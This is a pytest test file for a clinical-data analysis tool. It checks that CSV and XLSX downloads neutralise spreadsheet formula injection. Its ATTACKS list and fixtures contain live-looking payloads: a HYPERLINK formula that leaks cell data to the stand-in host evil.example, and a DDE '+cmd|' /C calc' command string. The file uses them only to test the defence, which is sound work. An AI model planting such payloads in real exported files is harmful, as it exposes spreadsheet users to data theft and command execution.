"""Formula injection (OWASP): every CSV and XLSX download neutralises cells that would start a formula.

A rejected value is quoted verbatim in the problems and quarantine downloads, so a cell such as
=HYPERLINK("http://…") from a bad export would otherwise become a live formula in Excel.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from analysis import cli, ingest, spreadsheet, store
from analysis.engine.timeline import load_timeline
from analysis.reporting import export
from analysis.views.data import preview as preview_views
from analysis.views.data import results as result_views

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_each_formula_start_is_neutralised_and_kept_readable(attack):
    assert spreadsheet.neutralised(attack) == "'" + attack


@pytest.mark.parametrize("value", ["K-001", "ketamine_iv", "2026-01-05", "is not a date", "", "a=b", "<11"])
def test_ordinary_text_is_left_as_it_is(value):
    assert spreadsheet.neutralised(value) == value


def test_numbers_stay_numbers_and_blanks_stay_blank():
    frame = pd.DataFrame({"n": [-3, 4], "x": [-0.5, None], "text": ["-3", None]})
    safe = spreadsheet.safe_frame(frame)
    assert safe["n"].tolist() == [-3, 4] and safe["x"].iloc[0] == -0.5 and pd.isna(safe["x"].iloc[1])
    assert safe["text"].iloc[0] == "'-3" and pd.isna(safe["text"].iloc[1])


def _cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"))) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _dangerous(cells) -> list[str]:
    """Text cells a spreadsheet would run as a formula (a number written as -7.5 is read as a number)."""
    return [c for c in cells if isinstance(c, str) and c.startswith(spreadsheet.FORMULA_STARTS) and not _is_number(c)]


SESSIONS_WITH_FORMULAS = (
    b"patient_id,session_date,modality,dose_mg\n"
    b'K-1,2026-01-05,"=HYPERLINK(""http://evil.example"",""x"")",35\n'
    b"K-1,2026-01-06,+cmd|' /C calc'!A0,35\n"
    b"K-1,2026-01-07,ketamine_iv,-2+3\n"
    b"K-1,2026-01-08,ketamine_iv,35\n"
)


def test_the_data_pages_problems_download_neutralises_rejected_values():
    con = store.connect_memory()
    preview = preview_views.preview_import(con, [("s.csv", SESSIONS_WITH_FORMULAS)])
    cells = _cells(spreadsheet.csv_bytes(result_views.row_problems(preview.result)))
    assert '\'=HYPERLINK("http://evil.example","x")' in cells and "'-2+3" in cells
    assert _dangerous(cells) == []


def test_the_quarantine_download_neutralises_rejected_values():
    con = store.connect_memory()
    assert ingest.import_bytes(con, [("s.csv", SESSIONS_WITH_FORMULAS)], skip_invalid=True).ok
    rows = result_views.quarantine_rows(con)
    assert len(rows) == 3
    cells = _cells(spreadsheet.csv_bytes(rows))
    assert "'+cmd|' /C calc'!A0" in cells and _dangerous(cells) == []


def test_the_command_lines_problems_file_neutralises_rejected_values(tmp_path, capsys):
    source = tmp_path / "s.csv"
    source.write_bytes(SESSIONS_WITH_FORMULAS)
    written = tmp_path / "problems.csv"
    code = cli.main(["import", "--quiet", "--db", str(tmp_path / "db.duckdb"), "--problems", str(written), str(source)])
    assert code == 2
    cells = _cells(written.read_bytes())
    assert "'-2+3" in cells and _dangerous(cells) == []


ATTACK = '=HYPERLINK("http://evil.example")'


@pytest.fixture
def report(demo_path, monkeypatch) -> dict:
    with store.opened(demo_path, read_only=True) as con:
        report = export.quarterly_report(load_timeline(con), quarter="all")
    # The report's own words never start a formula today; one measure's name stands in for any text cell.
    tidy = export.tidy_table

    def with_an_attack(*args, **kwargs):
        table = tidy(*args, **kwargs)
        table.loc[table.index[0], "measure"] = ATTACK
        return table

    monkeypatch.setattr(export, "tidy_table", with_an_attack)
    return report


def test_the_report_csv_neutralises_text_cells(report):
    cells = _cells(export.to_csv(report).encode())
    assert "'" + ATTACK in cells and _dangerous(cells) == []


def test_the_report_xlsx_writes_text_not_formulas(report):
    workbook = openpyxl.load_workbook(io.BytesIO(export.to_xlsx(report)))
    values = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert not _dangerous([cell.value]), (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    assert "'" + ATTACK in values


def test_counts_beside_blanks_stay_whole_numbers_in_a_csv():
    """A report's value column holds counts, blanks and '<11' as objects: written 40, never 40.0."""
    frame = pd.DataFrame({"n": [1, 2, 3, 4], "value": pd.Series([40, None, "<11", "-1"], dtype=object)})
    assert spreadsheet.csv_text(frame).splitlines() == ["n,value", "1,40", "2,", "3,<11", "4,'-1"]
